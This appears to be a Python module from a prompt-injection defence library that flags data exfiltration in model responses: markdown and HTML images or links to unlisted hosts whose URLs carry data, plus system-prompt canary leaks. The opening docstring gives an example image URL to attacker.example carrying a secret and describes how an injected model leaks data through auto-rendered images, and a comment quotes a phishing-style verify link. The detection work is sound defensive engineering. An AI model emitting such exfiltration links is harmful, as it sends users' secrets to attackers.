"""Response-side checks: data exfiltration through links and images, canary leaks.

A model that has been injected can leak data without the user clicking anything: a
markdown image is fetched by the chat client as soon as it renders, so
``![](https://attacker.example/p.png?q=<secret>)`` sends ``<secret>`` to the attacker
(Rehberger, 2023; the Bing Chat and ChatGPT plugin exfiltration reports). We flag images
and links to domains that are not allow-listed when the URL carries data, and a canary
token from the system prompt that shows up in a response.
"""

from __future__ import annotations

import base64
from collections.abc import Sequence
from dataclasses import dataclass
from urllib.parse import parse_qsl, unquote, urlsplit

from promptguard._lazyre import lazy
from promptguard.recognizers.validators import luhn_ok

__all__ = ["ExfilHit", "find_canary", "find_exfiltration"]

# Markdown image / link, reference-style definition, and HTML img/a/iframe tags.
_MD_RE = lazy(r"(!?)\[[^\]\n]{0,500}\]\(\s*<?([a-zA-Z][a-zA-Z0-9+.\-]*:[^)\s>]{1,4000})")
_REF_RE = lazy(r"(?m)^\s{0,3}\[[^\]\n]{1,200}\]:\s*<?(https?:[^\s>]{1,4000})")
_HTML_RE = lazy(
    r"(?i)<\s*(img|a|iframe|script|link|source)\b[^>]{0,500}?\b(?:src|href)\s*=\s*[\"']?(https?:[^\"'\s>]{1,4000})"
)
_DATA_CHARS_RE = lazy(r"[A-Za-z0-9+/=_%\-]{16,}")


@dataclass(frozen=True, slots=True)
class ExfilHit:
    start: int
    end: int
    kind: str  # image | link | html_img | html_link | reference
    score: float


def _host_allowed(host: str, allowed: Sequence[str]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == d or host.endswith("." + d) for d in allowed)


_RENDERERS = ("quickchart.io", "image-charts.com", "chart.googleapis.com", "mermaid.ink", "kroki.io")
"""Chart and diagram services an answer draws with: the data in the URL is the picture's, and whoever
planted an injection cannot read what they receive. Not when the query holds a URL (a service told
to fetch it would pass the data on)."""
_URL_INSIDE_RE = lazy(r"(?i)https?(?::|%3a)")


def _renders_a_chart(host: str, url: str) -> bool:
    return _host_allowed(host, _RENDERERS) and _URL_INSIDE_RE.search(urlsplit(url).query) is None


def _carries_data(url: str) -> bool:
    """Does the URL carry a payload beyond a plain address?"""
    parts = urlsplit(url)
    params = parse_qsl(parts.query, keep_blank_values=True)
    if any(len(v) >= 8 for _, v in params) or len(parts.query) >= 24:
        return True
    if len(parts.fragment) >= 16:
        return True
    segments = [s for s in parts.path.split("/") if s]
    # A long opaque path segment (base64, hex, percent-encoded text) is data too.
    return any(
        (len(s) >= 24 and _DATA_CHARS_RE.fullmatch(s)) or "%20" in s or len(unquote(s).split()) > 2 for s in segments
    )


# A link the user must click still leaks when what it carries is personal: a parameter named for a
# credential or an identity number, or a value shaped like one (an SSN, an IBAN, a card number that
# passes Luhn). Such a link scores as an image does; a search query or a tracking id does not.
_SENSITIVE_PARAM_RE = lazy(
    r"(?i)^(?:ssn|social_?security\w*|tax_?id|dob|date_?of_?birth|birth_?date|passport\w*|passeport|pasaporte|passaporte"
    r"|reisepass|paszport|iban|cvv|cvc|pass(?:word|wd)?|pwd|otp|secret|api_?key|credentials?|system_?prompt)$"
)
# A card parameter ("carte", "tarjeta", "card_number") leaks when its value is a card-length number.
_CARD_PARAM_RE = lazy(
    r"(?i)^(?:card(?:_?(?:no|num|number))?|cardnumber|carte|tarjeta|karte|kartennummer|cartao|carta|cc(?:_?num)?|pan)$"
)
# s41 (blind57i): a person's e-mail address is personal data too ("re-verify your session:
# [Verify](https://verify.example/auth?user=jane%40corp.example&token=...)"). A token alone is not:
# a reset link's signed token is the service's own (see _decodes_to_prose).
_EMAIL_VALUE_RE = lazy(r"^[\w.+\-]+@[\w\-]+(?:\.[\w\-]+)+$")
# Parameters that name the reader's own address (a calendar's "src=<id>@group.calendar.google.com" does not,
# nor a compose link's "to=support@vendor.example", which an answer offers for writing to a company).
_EMAIL_PARAM_RE = lazy(r"(?i)^(?:e-?mail|mail|user(?:_?name)?|login|account|u|customer|owner)$")
# Data sent to the user's own machine ("http://localhost:8888/?user=...") leaves nothing.
_LOOPBACK_RE = lazy(r"(?i)^(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0|::1)$")
_B64_VALUE_RE = lazy(r"^[A-Za-z0-9+/_-]{24,}={0,2}$")
_WORD_RE = lazy(r"[A-Za-z]{3,}")
_SENSITIVE_VALUE_RE = lazy(r"^(?:\d{3}-\d{2}-\d{4}|[A-Z]{2}\d{2}[A-Z0-9]{11,30})$")
_CARD_RE = lazy(r"^(?:\d[ -]?){12,18}\d$")


def _card_number(value: str) -> bool:
    return (
        _CARD_RE.match(value) is not None and value[0] in "23456" and luhn_ok("".join(c for c in value if c.isdigit()))
    )


def _decodes_to_prose(value: str) -> bool:
    """A base64 value that decodes to words ("conversation: user asked about ...; token=..."): text
    smuggled out, where a session id or a signed token decodes to bytes or compact JSON."""
    if _B64_VALUE_RE.match(value) is None:
        return False
    try:
        raw = base64.b64decode(value.replace("-", "+").replace("_", "/") + "=" * (-len(value) % 4))
        decoded = raw.decode("utf-8")
    except (ValueError, UnicodeDecodeError):
        return False
    return decoded.isprintable() and len(decoded.split()) >= 3 and len(_WORD_RE.findall(decoded)) >= 3


def _carries_personal_data(url: str) -> bool:
    """Does the URL's query name a credential or an identity number, hold an SSN, IBAN or card number,
    a person's e-mail address, or carry text in base64?"""
    parts = urlsplit(url)
    remote = _LOOPBACK_RE.match(parts.hostname or "") is None
    for name, value in parse_qsl(parts.query, keep_blank_values=True):
        value = value.strip()
        if len(value) < 4:
            continue
        if _SENSITIVE_PARAM_RE.match(name) or _SENSITIVE_VALUE_RE.match(value) or _card_number(value):
            return True
        if _CARD_PARAM_RE.match(name) and sum(c.isdigit() for c in value) >= 12:
            return True
        if remote and _EMAIL_PARAM_RE.match(name) and _EMAIL_VALUE_RE.match(value):
            return True
        if _decodes_to_prose(value):
            return True
    return False


def find_exfiltration(text: str, allowed_domains: Sequence[str]) -> list[ExfilHit]:
    """Images and links in ``text`` to non-allow-listed hosts that carry data."""
    hits: list[ExfilHit] = []
    seen: set[tuple[int, int]] = set()

    def check(url: str, start: int, end: int, kind: str, base: float) -> None:
        try:
            parts = urlsplit(url)
        except ValueError:
            return
        if parts.scheme not in ("http", "https") or not parts.hostname:
            return
        if _host_allowed(parts.hostname, allowed_domains) or _renders_a_chart(parts.hostname, url):
            return
        if not _carries_data(url):
            return
        if base < 0.9 and _carries_personal_data(url):
            base = 0.9
        if (start, end) not in seen:
            seen.add((start, end))
            hits.append(ExfilHit(start, end, kind, base))

    for m in _MD_RE.finditer(text):
        image = m.group(1) == "!"
        # Images load without a click: the stronger signal.
        check(m.group(2), m.start(), m.end(), "image" if image else "link", 0.9 if image else 0.6)
    for m in _REF_RE.finditer(text):
        check(m.group(1), m.start(), m.end(), "reference", 0.6)
    for m in _HTML_RE.finditer(text):
        tag = m.group(1).lower()
        auto = tag in ("img", "iframe", "script", "source", "link")
        check(m.group(2), m.start(), m.end(), "html_img" if auto else "html_link", 0.9 if auto else 0.6)
    return sorted(hits, key=lambda h: h.start)


def find_canary(text: str, canary: str, decoded: Sequence[tuple[int, int, str]] = ()) -> list[tuple[int, int]]:
    """Spans where ``canary`` appears, verbatim, case-folded, or inside decoded segments."""
    spans: list[tuple[int, int]] = []
    start = 0
    low, low_c = text.casefold(), canary.casefold()
    same_len = len(low) == len(text)
    hay = low if same_len else text
    needle = low_c if same_len else canary
    while True:
        i = hay.find(needle, start)
        if i < 0:
            break
        spans.append((i, i + len(needle)))
        start = i + 1
    b64 = base64.b64encode(canary.encode()).decode().rstrip("=")
    for s, e, seg_text in decoded:
        if low_c in seg_text.casefold():
            spans.append((s, e))
    if b64 and len(b64) >= 8:
        i = text.find(b64[:-1])
        if i >= 0:
            spans.append((i, i + len(b64) - 1))
    return sorted(set(spans))
